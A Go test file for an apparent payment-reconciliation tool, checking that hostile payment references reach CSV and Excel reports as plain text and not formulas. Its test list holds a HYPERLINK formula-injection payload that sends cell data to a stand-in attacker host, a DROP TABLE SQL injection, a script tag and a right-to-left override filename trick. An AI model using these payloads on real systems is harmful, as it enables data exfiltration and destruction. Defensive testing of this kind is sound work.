package main

import (
	"bytes"
	"net/http"
	"net/http/httptest"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"github.com/xuri/excelize/v2"

	"tieout/internal/booktest"
	"tieout/internal/corpus"
	"tieout/internal/payment"
	"tieout/internal/store/pgtest"
	"tieout/reports"
)

// Texts that people and machines put into payments, to trick or by accident.
var hostileReferences = []string{
	`=HYPERLINK("http://evil.example/?"&A1,"click")`, "+254700000000", "@SUM(1+1)", "-2+3", "'=1", "😀 café №5 – ₦", "0012", "1E15",
	"123456789012345678901234567890123456", "طلب رقم ٤٠ 🎉", `=HYPERLINK("http://x")`, "a,\"b\"\nc;d", "<script>&amp;</script>", "'; DROP TABLE tieout.payments; --", "\u202eexe.fdp", "   ",
}

// workbooksHoldHostileTexts reads both workbooks by LibreOffice, formulas computed
// anew: each text arrives as it was given, and none has become a formula.
func workbooksHoldHostileTexts(t *testing.T, dir string, references map[string]string) {
	t.Helper()
	for book, sheet := range map[string]struct {
		name                         string
		id, reference, theirs, least int
	}{
		"settlement.xlsx": {"Transactions", 0, 6, 4, len(references)},
		"exceptions.xlsx": {"Exceptions", 6, 8, 8, len(references) / 2},
	} {
		path := filepath.Join(dir, book)
		assert.Empty(t, booktest.Flaws(t, path), book)
		f, err := excelize.OpenFile(path)
		require.NoError(t, err)
		seen := 0
		for i, row := range booktest.Recalculated(t, path).Rows(sheet.name) {
			reference, ok := references[row[sheet.id]]
			if !ok {
				continue
			}
			seen++
			want := visible.Replace(reference)
			assert.Equal(t, want, row[sheet.reference], book)
			assert.Equal(t, want, row[sheet.theirs], book)
			cell, err := excelize.CoordinatesToCellName(sheet.reference+1, i+1)
			require.NoError(t, err)
			formula, err := f.GetCellFormula(sheet.name, cell)
			require.NoError(t, err)
			assert.Empty(t, formula)
			kind, err := f.GetCellType(sheet.name, cell)
			require.NoError(t, err)
			assert.Equal(t, excelize.CellTypeInlineString, kind, "%s %s is a text", book, cell)
		}
		assert.GreaterOrEqual(t, seen, sheet.least, book)
		require.NoError(t, f.Close())
	}
}

// visible is how a cell shows what can't be seen, or takes more than a line.
var visible = strings.NewReplacer("\u202e", "<U+202E>", "\n", " ")

func TestHostileTextsSurviveToTheReports(t *testing.T) {
	t.Parallel()
	w := newTruth("hostile", 60, nil)
	w.World = corpus.Generate(corpus.Options{
		Seed: 3, Series: series, Payments: 60, From: w.Payments[0].CreatedAt.In(zone), Days: 3, Location: zone, Now: time.Now(), DifferenceShare: -1,
		Accounts: []corpus.Account{{Name: "pawapay-zm", Type: corpus.Pawapay}},
	})
	references := map[string]string{} // by payment
	next := 0
	for i := range w.Transactions {
		x := &w.Transactions[i]
		for j := range w.Payments {
			p := &w.Payments[j]
			if next < len(hostileReferences) && p.ID == x.ID && p.Reference == x.Reference && p.Status == payment.Pending && x.Status == payment.Completed {
				p.Reference, x.Reference = hostileReferences[next], hostileReferences[next]
				if next%2 == 0 { // in the exceptions too
					x.Amount.Minor += 100
					w.Planted = append(w.Planted, corpus.Planted{Kind: payment.AmountMismatch, Provider: p.Provider, PaymentKind: p.Kind, PaymentID: p.ID})
				}
				references[p.ID] = p.Reference
				next++
			}
		}
	}
	require.Len(t, references, len(hostileReferences))

	server := serveWorld(t, w)
	server.meet(func(rw http.ResponseWriter, r *http.Request, api http.Handler) {
		rec := httptest.NewRecorder()
		api.ServeHTTP(rec, r)
		body := bytes.ReplaceAll(rec.Body.Bytes(), []byte("The payment did not succeed."), []byte(`\u0000=1+1\u001b[31m \ud83d\ude00 \ud800`))
		rw.Header().Set("Content-Type", rec.Header().Get("Content-Type"))
		rw.WriteHeader(rec.Code)
		_, _ = rw.Write(body)
	})
	s := bareSite(t, w, server, pgtest.URL(t))
	s.must(0, "import", "payments", s.payments())
	s.run(0)
	v1 := filepath.Join(s.folder(), "v1")
	requireWhole(t, v1)
	requirePlanted(t, w, v1)

	seen := 0
	for _, p := range readCSV(t, v1, "transactions.csv") {
		if reference, ok := references[p["payment_id"]]; ok {
			seen++
			assert.Equal(t, reports.SafeText(reference), p["reference"])
			assert.Equal(t, reports.SafeText(reference), p["provider_reference"])
		}
	}
	assert.Len(t, references, seen)
	for _, e := range readCSV(t, v1, "exceptions.csv") {
		assert.Equal(t, reports.SafeText(references[e["payment_id"]]), e["reference"])
	}
	workbooksHoldHostileTexts(t, v1, references)
	const failed = `SELECT count(*) FROM tieout.payment_outcomes WHERE status = 'failed'`
	require.Positive(t, get[int](s, failed))
	assert.Zero(t, get[int](s, failed+` AND coalesce(failure_message, '') NOT LIKE '%=1+1%'`), "what the provider says of a failure is kept, without its zero byte")
}
